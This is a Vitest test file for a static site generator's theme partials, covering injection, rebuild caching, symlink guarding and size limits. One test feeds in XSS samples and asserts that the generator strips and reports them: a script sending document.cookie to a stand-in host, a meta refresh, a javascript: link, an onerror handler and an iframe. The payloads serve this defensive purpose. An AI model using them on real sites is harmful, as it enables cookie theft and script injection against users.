// theme/partials/*.html: the author's own head additions, header and footer,
// in every page of the site, through the same path guard as everything else.
import { readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { build, readTree } from '../../helpers/site';
import { post, tempDir, tempTree, writeTree } from '../../helpers/tmp';

const posts = {
  'posts/a.md': post({ title: 'A', date: '2024-01-01', tags: '[notes]' }, 'Text.\n'),
  'posts/b.md': post({ title: 'B', date: '2024-01-02' }, 'More.\n'),
};

describe('theme partials', () => {
  it('adds head.html to every head and replaces the header and footer with the author’s', async () => {
    const root = await tempTree({
      ...posts,
      'theme/partials/head.html': '<link rel="icon" href="/favicon.svg">',
      'theme/partials/footer.html': '<footer class="mine">Written by hand</footer>',
    });
    const out = path.join(root, '_site');
    await build(root, out);
    const pages = [...(await readTree(out))].filter(([file]) => file.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(4);
    for (const [file, bytes] of pages) {
      const html = bytes.toString('utf8');
      expect(html, file).toMatch(/<link rel="icon" href="\/favicon.svg"><\/head>/);
      expect(html, file).toContain('<footer class="mine">Written by hand</footer>');
      expect(html, file).not.toContain('site-footer');
      expect(html, file).toContain('class="site-header"');
      expect(html, file).not.toContain('data-pw-partial');
    }
  });

  it('never carries script from a partial to the site: scripts, handlers, frames and a meta refresh are left out and reported', async () => {
    const root = await tempTree({
      ...posts,
      'theme/partials/head.html': '<meta name="author" content="Me"><script>fetch("https://evil.example/"+document.cookie)</script><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="/fonts.css">',
      'theme/partials/header.html': '<header class="mine"><a href="javascript:alert(1)">Home</a><img src="/logo.png" onerror="alert(2)"><iframe src="https://evil.example/"></iframe></header>',
    });
    const out = path.join(root, '_site');
    const summary = await build(root, out);
    const html = (await readFile(path.join(out, 'index.html'), 'utf8')).toLowerCase();
    expect(html).toContain('<meta name="author" content="me">');
    expect(html).toContain('<link rel="stylesheet" href="/fonts.css">');
    expect(html).toContain('<header class="mine">');
    for (const bad of ['evil.example', 'javascript:', 'onerror', 'http-equiv="refresh"', '<iframe']) expect(html, bad).not.toContain(bad);
    expect(summary.warnings.filter((w) => w.startsWith('theme/partials/'))).toHaveLength(2);
  });

  it('rebuilds every page when a partial changes, as a clean build would', async () => {
    const root = await tempTree({ ...posts, 'theme/partials/header.html': '<header>One</header>' });
    const out = path.join(root, '_site');
    const cacheDir = await tempDir();
    await build(root, out, { cacheDir });
    expect((await build(root, out, { cacheDir })).rendered).toBe(0);
    await writeFile(path.join(root, 'theme/partials/header.html'), '<header>Two</header>');
    expect((await build(root, out, { cacheDir })).rendered).toBeGreaterThan(0);
    const clean = path.join(await tempDir(), 'clean');
    await build(root, clean, { cacheDir: await tempDir() });
    expect(await readTree(out)).toEqual(await readTree(clean));
    expect(await readFile(path.join(out, 'index.html'), 'utf8')).toContain('<header>Two</header>');
  });

  it('never reads a partial through a link out of the workspace, and refuses one too big to be a snippet', async () => {
    const outside = await tempDir();
    await writeFile(path.join(outside, 'secret.html'), '<p>secret</p>');
    const root = await tempTree({ ...posts, 'theme/partials/.keep': '' });
    await symlink(path.join(outside, 'secret.html'), path.join(root, 'theme/partials/footer.html'));
    const out = path.join(root, '_site');
    await build(root, out);
    expect(await readFile(path.join(out, 'index.html'), 'utf8')).not.toContain('secret');

    await writeTree(root, { 'theme/partials/head.html': 'x'.repeat(300 * 1024) });
    await expect(build(root, out)).rejects.toThrow(/theme\/partials\/head.html is 300 KB; a partial may be at most 256 KB/);
  });
});
